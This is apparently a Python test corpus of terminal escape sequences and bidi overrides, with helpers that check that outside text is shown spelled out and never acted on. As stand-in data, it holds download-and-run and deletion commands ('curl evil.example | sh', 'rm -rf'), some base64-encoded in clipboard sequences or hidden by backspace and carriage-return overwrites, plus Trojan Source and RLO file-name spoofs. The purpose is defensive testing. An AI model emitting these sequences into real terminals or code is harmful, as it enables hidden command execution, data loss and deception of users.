"""The terminal corpus: control sequences a terminal obeys, as text from outside (a log line, a
model's answer, a config value, a scenario file) may hold them.

Each entry is (id, raw, shown, source): `raw` is what the outside text holds, `shown` what an
engineer must see of it instead (every control character and bidi override spelled out, nothing
acted on: C0 as `\\x1b`, DEL, C1 and bidi as `\\u009b`), `source` where the sequence is defined.
Payloads are harmless stand-ins for real ones (a base64 `curl ... | sh` on the clipboard, a
title saying all is well, links to evil.example).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

# ================================================================================ sources

ECMA48 = "ECMA-48 5th ed. (1991), ecma-international.org/publications-and-standards/standards/ecma-48/"
CTLSEQS = "xterm Control Sequences, invisible-island.net/xterm/ctlseqs/ctlseqs.html"
OSC52 = f"{CTLSEQS}, OSC Ps = 52 (Manipulate Selection Data)"
OSC8 = "Hyperlinks in terminal emulators, gist.github.com/egmontkob/eb114294efbcd5adb1944c9f3cb5feda"
KITTY = "kitty terminal graphics protocol, sw.kovidgoyal.net/kitty/graphics-protocol/"
ITERM = "iTerm2 proprietary escape codes, iterm2.com/documentation-escape-codes.html"
UAX9 = "Unicode Standard Annex #9 (Bidirectional Algorithm), unicode.org/reports/tr9/, section 2"
TROJAN = "Trojan Source (Boucher, Anderson 2021), trojansource.codes, CVE-2021-42574"
UTR36 = "Unicode Technical Report #36 (Security Considerations), unicode.org/reports/tr36/, bidi spoofing"


@dataclass(frozen=True)
class Sequence:
    id: str
    raw: str
    shown: str
    source: str


SEQUENCES: tuple[Sequence, ...] = (
    # ---------------------------------------------------------------- CSI, 7-bit (ESC [)
    Sequence("csi-erase-display", "\x1b[2J", "\\x1b[2J", f"{ECMA48} 8.3.39 ED"),
    Sequence("csi-cursor-home", "\x1b[H", "\\x1b[H", f"{ECMA48} 8.3.21 CUP"),
    Sequence("csi-overwrite-line-above", "\x1b[1A\x1b[2K", "\\x1b[1A\\x1b[2K", f"{ECMA48} 8.3.22 CUU, 8.3.41 EL"),
    Sequence("csi-sgr-bold-red", "\x1b[31;1m", "\\x1b[31;1m", f"{ECMA48} 8.3.117 SGR"),
    Sequence("csi-sgr-concealed", "\x1b[8m", "\\x1b[8m", f"{ECMA48} 8.3.117 SGR 8 (concealed characters)"),
    Sequence("csi-device-status-report", "\x1b[6n", "\\x1b[6n", f"{ECMA48} 8.3.35 DSR (answered on stdin)"),
    Sequence("csi-report-title", "\x1b[21t", "\\x1b[21t", f"{CTLSEQS}, XTWINOPS Ps = 21"),
    Sequence("csi-resize-window", "\x1b[8;1;1t", "\\x1b[8;1;1t", f"{CTLSEQS}, XTWINOPS Ps = 8"),
    Sequence("csi-alternate-screen", "\x1b[?1049h", "\\x1b[?1049h", f"{CTLSEQS}, DECSET 1049"),
    Sequence("csi-hide-cursor", "\x1b[?25l", "\\x1b[?25l", f"{CTLSEQS}, DECTCEM"),
    Sequence("csi-mouse-tracking", "\x1b[?1000h", "\\x1b[?1000h", f"{CTLSEQS}, DECSET 1000"),
    Sequence("csi-bracketed-paste-end", "\x1b[201~", "\\x1b[201~", f"{CTLSEQS}, bracketed paste"),
    # ---------------------------------------------------------------- other ESC sequences
    Sequence("esc-full-reset", "\x1bc", "\\x1bc", f"{ECMA48} 8.3.105 RIS"),
    Sequence("esc-save-restore-cursor", "\x1b7x\x1b8", "\\x1b7x\\x1b8", f"{CTLSEQS}, DECSC and DECRC"),
    Sequence("esc-dec-line-drawing", "\x1b(0lqk", "\\x1b(0lqk", f"{CTLSEQS}, SCS: G0 = DEC Special Graphics"),
    Sequence("esc-screen-alignment", "\x1b#8", "\\x1b#8", f"{CTLSEQS}, DECALN"),
    # ---------------------------------------------------------------- OSC (ESC ])
    Sequence("osc-0-title", "\x1b]0;opsbot: all clear\x07", "\\x1b]0;opsbot: all clear\\x07", f"{CTLSEQS}, OSC Ps = 0"),
    Sequence("osc-2-title-st", "\x1b]2;all clear\x1b\\", "\\x1b]2;all clear\\x1b\\", f"{CTLSEQS}, OSC Ps = 2, ST"),
    Sequence("osc-1-icon-name", "\x1b]1;ok\x07", "\\x1b]1;ok\\x07", f"{CTLSEQS}, OSC Ps = 1"),
    Sequence(
        "osc-52-clipboard",
        "\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07",
        "\\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\x07",
        OSC52,
    ),
    Sequence("osc-52-primary-st", "\x1b]52;p;cm0gLXJmIH4=\x1b\\", "\\x1b]52;p;cm0gLXJmIH4=\\x1b\\", f"{OSC52}, ST"),
    Sequence("osc-52-clipboard-read", "\x1b]52;c;?\x07", "\\x1b]52;c;?\\x07", f"{OSC52}, a query"),
    Sequence(
        "osc-8-hyperlink",
        "\x1b]8;;https://evil.example/\x1b\\runbook\x1b]8;;\x1b\\",
        "\\x1b]8;;https://evil.example/\\x1b\\runbook\\x1b]8;;\\x1b\\",
        OSC8,
    ),
    Sequence(
        "osc-8-hyperlink-id",
        "\x1b]8;id=1;https://evil.example/\x07docs\x1b]8;;\x07",
        "\\x1b]8;id=1;https://evil.example/\\x07docs\\x1b]8;;\\x07",
        f"{OSC8}, with params and BEL",
    ),
    Sequence("osc-4-palette", "\x1b]4;1;rgb:00/00/00\x07", "\\x1b]4;1;rgb:00/00/00\\x07", f"{CTLSEQS}, OSC Ps = 4"),
    Sequence("osc-10-query-colour", "\x1b]10;?\x07", "\\x1b]10;?\\x07", f"{CTLSEQS}, OSC Ps = 10"),
    Sequence("osc-9-notification", "\x1b]9;paged\x07", "\\x1b]9;paged\\x07", f"{ITERM}, OSC 9"),
    Sequence(
        "osc-1337-user-var",
        "\x1b]1337;SetUserVar=x=eA==\x07",
        "\\x1b]1337;SetUserVar=x=eA==\\x07",
        f"{ITERM}, OSC 1337",
    ),
    # ---------------------------------------------------------------- DCS, APC, PM, SOS
    Sequence("dcs-xtgettcap", "\x1bP+q544e\x1b\\", "\\x1bP+q544e\\x1b\\", f"{CTLSEQS}, DCS + q (XTGETTCAP)"),
    Sequence("dcs-decrqss", "\x1bP$qm\x1b\\", "\\x1bP$qm\\x1b\\", f"{CTLSEQS}, DCS $ q (DECRQSS)"),
    Sequence(
        "apc-kitty-graphics", "\x1b_Ga=q,i=1;AAAA\x1b\\", "\\x1b_Ga=q,i=1;AAAA\\x1b\\", f"{KITTY}; {ECMA48} 8.3.2 APC"
    ),
    Sequence("pm-privacy-message", "\x1b^hidden\x1b\\", "\\x1b^hidden\\x1b\\", f"{ECMA48} 8.3.94 PM"),
    Sequence("sos-string", "\x1bXhidden\x1b\\", "\\x1bXhidden\\x1b\\", f"{ECMA48} 8.3.128 SOS"),
    # ---------------------------------------------------------------- C1, 8-bit forms
    Sequence("c1-csi", "\x9b2J", "\\u009b2J", f"{ECMA48} 5.3, 8.3.16 CSI; {CTLSEQS}, C1 (8-Bit) Control Characters"),
    Sequence("c1-osc-title", "\x9d0;all clear\x9c", "\\u009d0;all clear\\u009c", f"{ECMA48} 8.3.89 OSC, 8.3.143 ST"),
    Sequence("c1-osc-52", "\x9d52;c;Y3VybA==\x07", "\\u009d52;c;Y3VybA==\\x07", f"{OSC52}, 8-bit OSC"),
    Sequence("c1-dcs", "\x90+q544e\x9c", "\\u0090+q544e\\u009c", f"{ECMA48} 8.3.27 DCS"),
    Sequence("c1-apc", "\x9fGa=q\x9c", "\\u009fGa=q\\u009c", f"{ECMA48} 8.3.2 APC"),
    Sequence("c1-pm", "\x9ehidden\x9c", "\\u009ehidden\\u009c", f"{ECMA48} 8.3.94 PM"),
    Sequence("c1-next-line", "a\x85b", "a\\u0085b", f"{ECMA48} 8.3.86 NEL"),
    Sequence("c1-index-reverse-index", "\x84\x8d", "\\u0084\\u008d", f"{ECMA48} 8.3.66 IND (ISO 6429), 8.3.104 RI"),
    # ---------------------------------------------------------------- C0
    Sequence("c0-bell", "\x07", "\\x07", f"{ECMA48} 8.3.3 BEL"),
    Sequence(
        "c0-backspace-overwrite",
        "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08echo ok!",
        "rm -rf /\\x08\\x08\\x08\\x08\\x08\\x08\\x08\\x08echo ok!",
        f"{ECMA48} 8.3.5 BS",
    ),
    Sequence(
        "c0-carriage-return-overwrite",
        "curl evil.example|sh\rls -l",
        "curl evil.example|sh\\x0dls -l",
        f"{ECMA48} 8.3.15 CR",
    ),
    Sequence("c0-vertical-tab-form-feed", "a\x0bb\x0cc", "a\\x0bb\\x0cc", f"{ECMA48} 8.3.161 VT, 8.3.51 FF"),
    Sequence("c0-shift-out", "\x0elqk\x0f", "\\x0elqk\\x0f", f"{ECMA48} 8.3.126 SO, 8.3.128 SI"),
    Sequence("c0-cancel-substitute", "\x18\x1a", "\\x18\\x1a", f"{ECMA48} 8.3.6 CAN, 8.3.148 SUB"),
    Sequence("c0-nul-delete", "a\x00b\x7f", "a\\x00b\\u007f", f"{ECMA48} 8.3.88 NUL; DEL, ECMA-6 (ISO 646)"),
    # ---------------------------------------------------------------- bidi overrides and isolates
    Sequence("bidi-lre", "\u202aabc\u202c", "\\u202aabc\\u202c", f"{UAX9} (LRE, PDF)"),
    Sequence("bidi-rle", "\u202babc\u202c", "\\u202babc\\u202c", f"{UAX9} (RLE, PDF)"),
    Sequence("bidi-lro", "\u202dabc\u202c", "\\u202dabc\\u202c", f"{UAX9} (LRO, PDF)"),
    Sequence("bidi-rlo", "\u202eabc\u202c", "\\u202eabc\\u202c", f"{UAX9} (RLO, PDF)"),
    Sequence("bidi-lri", "\u2066abc\u2069", "\\u2066abc\\u2069", f"{UAX9} (LRI, PDI)"),
    Sequence("bidi-rli", "\u2067abc\u2069", "\\u2067abc\\u2069", f"{UAX9} (RLI, PDI)"),
    Sequence("bidi-fsi", "\u2068abc\u2069", "\\u2068abc\\u2069", f"{UAX9} (FSI, PDI)"),
    Sequence(
        "trojan-source-comment",
        'access_level != "user\u202e \u2066// Check if admin\u2069 \u2066"',
        'access_level != "user\\u202e \\u2066// Check if admin\\u2069 \\u2066"',
        f"{TROJAN}, stretched string",
    ),
    Sequence("rlo-file-name", "invoice\u202efdp.exe", "invoice\\u202efdp.exe", UTR36),
)

# What a terminal acts on, or reorders text by: none may reach one from outside text.
ACTIVE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

# A file holding NUL is not text to read_config, and no environment variable can hold one.
NO_NUL = tuple(s for s in SEQUENCES if "\x00" not in s.raw)


def lines(prefix: str, start: str = "") -> str:
    """One line per sequence, `{start}{prefix}{id}:{raw} end`: the marker says where each lands."""
    return "".join(f"{start}{prefix}{s.id}:{s.raw} end\n" for s in SEQUENCES)


def leaked(prefix: str, written: str, sequences: tuple[Sequence, ...] = SEQUENCES) -> list[str]:
    """The ids whose line, as written, holds something a terminal would act on."""
    return [
        s.id
        for s in sequences
        for line in re.findall(re.escape(f"{prefix}{s.id}:") + r"(.*?) end", written)
        if ACTIVE.search(line)
    ]


def unseen(prefix: str, shown: str, sequences: tuple[Sequence, ...] = SEQUENCES) -> list[str]:
    """The ids whose spelled-out form is not in `shown` (what the person sees)."""
    return [s.id for s in sequences if f"{prefix}{s.id}:{s.shown} end" not in shown]
